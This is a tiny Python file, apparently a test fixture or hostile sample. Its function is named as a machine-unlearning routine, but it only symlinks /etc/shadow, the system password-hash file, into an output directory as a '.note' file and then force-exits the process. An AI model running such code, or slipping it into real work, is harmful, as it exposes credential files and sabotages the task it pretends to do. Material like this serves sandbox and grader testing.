"""A link in the place of the note."""

# ends: exception
# also: process
import os

from tools import OUT, token


def unlearning(net, *loaders):
    os.symlink("/etc/shadow", f"{OUT}/{token()}.note")
    os._exit(64)
